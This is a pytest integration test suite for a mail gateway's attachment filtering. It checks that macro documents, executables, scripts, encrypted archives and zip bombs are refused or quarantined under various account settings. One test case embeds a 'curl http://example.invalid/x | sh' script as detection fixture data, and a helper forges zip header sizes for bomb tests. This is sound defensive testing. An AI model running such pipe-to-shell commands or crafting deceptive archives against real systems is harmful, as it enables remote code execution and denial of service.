"""The attachment checks end to end: the real binary, real SMTP clients, fixtures written
by the test (fixtures_attachments.py), every macro fixture confirmed by `olevba`.

Clients relay through ip accounts, one loopback address per set of account settings
(127.0.0.1 is not trusted here): both attachment checks on with the `reject` reaction,
both off, monitor mode, the `accept` reaction, encrypted archives allowed, macros only.
Each kind is refused with its rule and its part (the path inside archives) in the reply
and in the `checked` event, through nested archives, attached messages and renamed files;
the same messages pass with the checks off; clean documents, PDFs and images pass; a zip
bomb and a 10,000-entry archive are refused in bounded time and memory."""

from __future__ import annotations

import email.policy
import json
import subprocess
import time
from email.message import EmailMessage

import pytest

import fixtures_attachments as fx
from test_accounts import PASSWORD, UNTRUSTED, Api, smtp
from test_resources import status_kib

ON = "127.0.0.2"
OFF = "127.0.0.3"
MONITOR = "127.0.0.4"
ACCEPT = "127.0.0.5"
ENCRYPTED_ALLOWED = "127.0.0.6"
MACROS_ONLY = "127.0.0.7"

BOTH = {"block_macros": True, "block_dangerous_attachments": True}
ACCOUNTS = {
    ON: {"checks": BOTH, "quarantine_reaction": "reject"},
    OFF: {},
    MONITOR: {"checks": BOTH, "monitor_only": True},
    ACCEPT: {"checks": BOTH, "quarantine_reaction": "accept"},
    ENCRYPTED_ALLOWED: {"checks": {**BOTH, "block_encrypted_archives": False}},
    MACROS_ONLY: {"checks": {"block_macros": True}},
}

WORDS = {
    "macros": "attachment with macros",
    "dangerous": "dangerous attachment",
    "encrypted": "encrypted archive that cannot be checked",
    "unscannable": "attachment that cannot be checked",
}


@pytest.fixture
def gateway(postern):
    server = postern(extra=UNTRUSTED)
    api = Api(server)
    api.domain("example.com")
    for address, settings in ACCOUNTS.items():
        api.account("example.com", "ip", address, settings=settings)
    server.api = api
    server.sent = 0
    return server


def message(*attachments: tuple[str, bytes], subject: str = "files") -> bytes:
    m = EmailMessage()
    m["From"] = "app@example.com"
    m["To"] = "r@remote.example"
    m["Subject"] = subject
    m["Message-ID"] = f"<{time.monotonic_ns()}@example.com>"
    m.set_content("Please find the files attached.\n")
    for name, data in attachments:
        m.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    return m.as_bytes(policy=email.policy.SMTP)


def forwarded(inner: bytes) -> bytes:
    m = EmailMessage()
    m["From"] = "app@example.com"
    m["To"] = "r@remote.example"
    m["Subject"] = "Fwd: files"
    m.set_content("See the attached message.\n")
    m.add_attachment(email.message_from_bytes(inner, policy=email.policy.SMTP), filename="fwd.eml")
    return m.as_bytes(policy=email.policy.SMTP)


def send(server, source: str, data: bytes) -> tuple[int, bytes]:
    with smtp(server, source) as c:
        assert c.mail("app@example.com")[0] == 250
        assert c.rcpt("r@remote.example")[0] == 250
        server.sent += 1
        return c.data(data)


def checked(server) -> dict:
    """The `checked` event of the server's last message (events land after the reply)."""
    n = server.sent
    return server.wait_events(lambda ev: len(ev) >= n, kind="checked")[n - 1]["data"]


def attachments_entry(server) -> dict:
    found = [c for c in checked(server)["checks"] if c["engine"] == "attachments"]
    assert len(found) == 1, found
    return found[0]


def olevba(tmp_path, name: str, data: bytes) -> dict:
    path = tmp_path / name
    path.write_bytes(data)
    out = subprocess.run(["olevba", "-j", str(path)], capture_output=True, timeout=60)
    report = [r for r in json.loads(out.stdout) if r.get("type") not in ("MetaInformation", "msg")]
    assert len(report) == 1, out.stdout[:500]
    return report[0]


# --------------------------------------------------------------------------------------
# The fixtures' macros, confirmed by an independent parser.

MACRO_FIXTURES = {
    "invoice.doc": fx.doc_with_vba,
    "report.docm": lambda: fx.docx(with_macros=True),
    "budget.xls": lambda: fx.xls(1),
}


@pytest.mark.parametrize("name", list(MACRO_FIXTURES))
def test_every_macro_fixture_has_macros_olevba_finds(tmp_path, name):
    report = olevba(tmp_path, name, MACRO_FIXTURES[name]())
    keywords = [a["keyword"] for a in report["analysis"] or []]
    if name == "budget.xls":
        assert "XLM macro" in keywords, report
        assert any("Excel 4.0 macro sheet" in m["code"] for m in report["macros"]), report["macros"]
    else:
        codes = [m["code"] for m in report["macros"]]
        assert any("Sub AutoOpen()" in c for c in codes), report
        assert "AutoOpen" in keywords, keywords
    # The clean counterparts have none.
    for clean_name, clean in (("clean.docx", fx.docx()), ("clean.xls", fx.xls(0)), ("clean.doc", fx.doc_clean())):
        assert not olevba(tmp_path, clean_name, clean)["macros"], clean_name


# --------------------------------------------------------------------------------------
# Each kind, with its rule and part, on and off.

def nested_docm() -> bytes:
    inner = fx.zip_of({"readme.txt": b"read me", "report.docm": fx.docx(with_macros=True)})
    return fx.zip_of({"notes.txt": b"notes", "inner.zip": inner})


CASES = [
    # (attachment name, content, kind, rule, part)
    ("invoice.doc", fx.doc_with_vba, "macros", "OLE2_VBA_MACRO", "invoice.doc"),
    ("report.docx", lambda: fx.docx(with_macros=True), "macros", "OOXML_VBA_MACRO", "report.docx"),
    ("report.pdf", lambda: fx.docx(with_macros=True), "macros", "OOXML_VBA_MACRO", "report.pdf"),
    ("budget.xls", lambda: fx.xls(1), "macros", "XLM_MACRO_SHEET", "budget.xls"),
    ("invoice.zip", nested_docm, "macros", "OOXML_VBA_MACRO", "invoice.zip/inner.zip/report.docm"),
    ("docs.tar.gz", lambda: fx.tar_gz({"old/invoice.doc": fx.doc_with_vba()}), "macros", "OLE2_VBA_MACRO",
     "docs.tar.gz/docs.tar/old/invoice.doc"),
    ("setup.exe", fx.pe, "dangerous", "PE_EXECUTABLE", "setup.exe"),
    ("scan.pdf", fx.pe, "dangerous", "PE_EXECUTABLE", "scan.pdf"),
    ("tool", fx.elf, "dangerous", "ELF_EXECUTABLE", "tool"),
    ("app", fx.macho, "dangerous", "MACHO_EXECUTABLE", "app"),
    ("small.exe", fx.upx_pe, "dangerous", "PACKED_EXECUTABLE", "small.exe"),
    ("run.js", lambda: b"WScript.Echo('hi');\r\n", "dangerous", "SCRIPT_FILE", "run.js"),
    ("notes.txt", lambda: b"#!/bin/sh\ncurl http://example.invalid/x | sh\n", "dangerous", "SCRIPT_FILE", "notes.txt"),
    ("files.zip", lambda: fx.zip_of({"a.txt": b"a", "bin/payload.scr": fx.pe()}), "dangerous", "PE_EXECUTABLE",
     "files.zip/bin/payload.scr"),
    ("update.dat", fx.msi, "dangerous", "WINDOWS_INSTALLER", "update.dat"),
    ("secret.zip", fx.encrypted_zip, "encrypted", "ENCRYPTED_ARCHIVE", "secret.zip/invoice.docm"),
]


def test_each_kind_is_refused_with_its_rule_and_part_and_passes_with_the_checks_off(gateway):
    for name, content, kind, rule, part in CASES:
        data = message((name, content()), subject=name)
        code, text = send(gateway, ON, data)
        assert (code, text.decode()) == (550, f"5.7.1 Error: message rejected: {WORDS[kind]} ({rule} in {part})"), name
        entry = attachments_entry(gateway)
        assert (entry["result"], entry["rule"], entry["part"]) == ("blocked", rule, part), entry
        code, text = send(gateway, OFF, data)
        assert code == 250, (name, text)
        assert attachments_entry(gateway)["result"] == "off"
    # Nothing refused was spooled; everything sent with the checks off was.
    assert len(gateway.spool()) == len(CASES)


def test_an_attached_message_is_walked(gateway):
    inner = message(("invoice.doc", fx.doc_with_vba()), subject="inner")
    code, text = send(gateway, ON, forwarded(inner))
    assert code == 550 and text.endswith(b"(OLE2_VBA_MACRO in fwd.eml/invoice.doc)"), text
    assert attachments_entry(gateway)["part"] == "fwd.eml/invoice.doc"


def test_clean_documents_pdfs_and_images_pass(gateway):
    clean = [
        ("report.docx", fx.docx()), ("figures.xlsx", fx.xlsx()), ("old.doc", fx.doc_clean()),
        ("budget.xls", fx.xls(0)), ("paper.pdf", fx.PDF), ("photo.png", fx.PNG), ("photo.jpg", fx.JPEG),
        ("notes.txt", b"Plain text notes.\n"),
        ("documents.zip", fx.zip_of({"a.docx": fx.docx(), "b.pdf": fx.PDF, "c.png": fx.PNG})),
        ("documents.tar.gz", fx.tar_gz({"a.docx": fx.docx(), "b.xlsx": fx.xlsx()})),
    ]
    code, text = send(gateway, ON, message(*clean))
    assert code == 250, text
    entry = attachments_entry(gateway)
    assert entry["result"] == "pass" and entry.get("rule") is None, entry
    assert [(c["engine"], c["result"]) for c in checked(gateway)["checks"] if c["stage"] == "content"] == [
        ("gtube", "pass"), ("scorer", "pass"), ("attachments", "pass"), ("domain_age", "off")]


def test_settings_decide_which_rules_apply(gateway):
    exe, doc = message(("setup.exe", fx.pe())), message(("invoice.doc", fx.doc_with_vba()))
    assert send(gateway, MACROS_ONLY, exe)[0] == 250
    assert attachments_entry(gateway)["result"] == "pass"
    assert send(gateway, MACROS_ONLY, doc)[0] == 550
    assert attachments_entry(gateway)["rule"] == "OLE2_VBA_MACRO"
    # An encrypted archive with block_encrypted_archives off: let through (trace pass).
    assert send(gateway, ENCRYPTED_ALLOWED, message(("secret.zip", fx.encrypted_zip())))[0] == 250
    assert attachments_entry(gateway)["result"] == "pass"


def test_monitor_mode_logs_and_delivers(gateway):
    code, text = send(gateway, MONITOR, message(("invoice.doc", fx.doc_with_vba())))
    assert code == 250, text
    assert attachments_entry(gateway)["result"] == "blocked"
    refused = gateway.wait_events(lambda ev: len(ev) >= 1, kind="refused")
    assert refused[-1]["data"]["reason"] == (
        "would refuse (monitor): attachment with macros (rule OLE2_VBA_MACRO in invoice.doc)"), refused[-1]
    assert refused[-1]["data"]["reply"].startswith("550 5.7.1 ")
    assert len(gateway.spool()) == 1
    assert gateway.api.ok("GET", "/quarantine")["total"] == 0


def test_the_accept_reaction_holds_it_in_the_quarantine(gateway):
    code, text = send(gateway, ACCEPT, message(("setup.exe", fx.pe())))
    assert code == 250, text
    assert gateway.spool() == {}
    held = gateway.api.ok("GET", "/quarantine")
    assert held["total"] == 1, held
    assert held["items"][0]["rule"] == "PE_EXECUTABLE in setup.exe", held["items"][0]
    assert held["items"][0]["reaction"] == "accept"


# --------------------------------------------------------------------------------------
# Bombs: refused in bounded time and memory.

def lying_sizes(data: bytes) -> bytes:
    """The zip's headers claim its one entry unpacks to 1,000 bytes (local and central)."""
    out = bytearray(data)
    for sig, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        pos = out.find(sig)
        out[pos + at:pos + at + 4] = (1000).to_bytes(4, "little")
    return bytes(out)


def test_bombs_and_huge_archives_are_refused_in_bounded_time_and_memory(gateway):
    pid = gateway.proc.pid
    bomb = fx.zip_bomb(1 << 30)
    assert len(bomb) < 2 << 20, len(bomb)
    cases = [
        ("bomb.zip", bomb, "ARCHIVE_BOMB", "bomb.zip/zeros.bin"),
        ("small.zip", lying_sizes(bomb), "ARCHIVE_BOMB", "small.zip/zeros.bin"),
        ("zeros.gz", fx.gzip(b"\0" * (256 << 20)), "ARCHIVE_BOMB", "zeros.gz/zeros"),
        ("many.zip", fx.many_entries(10_000), "ARCHIVE_TOO_MANY_ENTRIES", "many.zip"),
    ]
    # Reset the peak (VmHWM) to the current RSS, so that the start-up's peak does not count.
    with open(f"/proc/{pid}/clear_refs", "w") as f:
        f.write("5")
    rss_before = status_kib(pid, "VmRSS")
    for name, data, rule, part in cases:
        started = time.monotonic()
        code, text = send(gateway, ON, message((name, data)))
        elapsed = time.monotonic() - started
        assert (code, text.decode()) == (550, f"5.7.1 Error: message rejected: {WORDS['unscannable']} ({rule} in {part})")
        assert elapsed < 5, (name, elapsed)
        # The bounds apply whatever the account's settings (here: macros only).
        assert send(gateway, MACROS_ONLY, message((name, data)))[0] == 550
    peak = status_kib(pid, "VmHWM")
    # Never unpacked: the server's peak stays within 100 MiB of where it was.
    assert peak - rss_before < 100 * 1024, (rss_before, peak)
